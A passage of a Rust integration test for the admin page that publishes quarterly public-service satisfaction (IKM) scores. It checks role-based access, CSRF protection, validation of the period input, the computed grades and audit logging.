                    )?;
                    // The total spread over the 9 x respondents slots.
                    let slots = respondents * 9;
                    let score = |e: u64| (total / slots + u64::from(i * 9 + e < total % slots)) as i64;
                    tx.execute(
                        "INSERT INTO ratings (doc_id, rating_id, at_ms, u1, u2, u3, u4, u5, u6, u7, u8, u9)
                         VALUES (?1, 'r1', ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, ?10, ?11)",
                        rusqlite::params![
                            id,
                            at,
                            score(0),
                            score(1),
                            score(2),
                            score(3),
                            score(4),
                            score(5),
                            score(6),
                            score(7),
                            score(8)
                        ],
                    )?;
                }
            }
            Ok(())
        })
        .unwrap();
    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();

    let page = |cookie: String| {
        let app = f.app.clone();
        async move {
            let resp = app
                .oneshot(Request::get("/admin/ikm/terbit").header(header::COOKIE, cookie).body(Body::empty()).unwrap())
                .await
                .unwrap();
            let status = resp.status();
            let set: Vec<String> =
                resp.headers().get_all(header::SET_COOKIE).iter().map(|v| v.to_str().unwrap().to_owned()).collect();
            let html =
                String::from_utf8(axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap().to_vec()).unwrap();
            (status, set, html)
        }
    };
    let (status, _, _) = page(format!("__Host-loket_session={}", web_session_for(&f, "pengawas"))).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "a supervisor cannot publish");
    let session = format!("__Host-loket_session={}", web_session(&f));
    let (status, set, html) = page(session.clone()).await;
    assert_eq!(status, StatusCode::OK);
    assert!(html.contains(r#"id="no-publications""#), "nothing published yet");
    let (cookies, csrf) = csrf_of(&session, &set, &html);
    let resp = post_form(&f, &session, "/admin/ikm/terbit", format!("csrf={csrf}&periode=2026-Q3")).await;
    assert_eq!(resp.status(), StatusCode::FORBIDDEN, "no CSRF cookie");
    let resp = post_form(&f, &cookies, "/admin/ikm/terbit", format!("csrf={csrf}&periode=2026-Q9")).await;
    assert_eq!(resp.status(), StatusCode::BAD_REQUEST, "not a period");
    let resp = post_form(&f, &cookies, "/admin/ikm/terbit", format!("csrf={csrf}&periode=2025")).await;
    assert_eq!(resp.status(), StatusCode::UNPROCESSABLE_ENTITY, "no respondents in 2025");
    let resp = post_form(&f, &cookies, "/admin/ikm/terbit", format!("csrf={csrf}&periode=2026-Q3")).await;
    assert_eq!(resp.status(), StatusCode::SEE_OTHER);
    assert_eq!(resp.headers()[header::LOCATION], "/admin/ikm/terbit?diterbitkan=2026-Q3");

    let catalog = f.state.db.read(crate::central::catalog_of).unwrap();
    let published: Vec<(&str, String, String, u64)> = catalog
        .published_ikm
        .iter()
        .map(|(k, p)| (k.as_str(), p.ikm_text(), p.grade().to_string(), p.respondents))
        .collect();
    assert_eq!(
        published,
        [
            ("12.71.03.1005", "88.30".to_owned(), "B".to_owned(), 1000),
            ("12.71.03.1006", "88.31".to_owned(), "A".to_owned(), 1000),
        ],
        "only the offices rated in the quarter, graded at the printed edges"
    );
    let p = &catalog.published_ikm.values().next().unwrap();
    assert_eq!((p.period.as_str(), p.period_label.as_str()), ("2026-Q3", "Triwulan III 2026"));
    assert_eq!(p.sample_min, 278, "Krejcie-Morgan for 1000 users");
    let (_, _, html) = page(session.clone()).await;
    assert!(html.contains(r#"data-kelurahan="12.71.03.1006" data-period="2026-Q3""#), "{html}");
    let audited: i64 = f
        .state
        .db
        .sqlite()
        .unwrap()
        .raw_read(|c| {
            c.query_row("SELECT count(*) FROM audit_log WHERE action = 'publish_ikm' AND username = 'admin'", [], |r| {
                r.get(0)
            })
            .map_err(crate::store::StoreError::from)
        })
        .unwrap();
    assert_eq!(audited, 1);
}

mod complaints;
mod skm;
mod sla;
mod units;
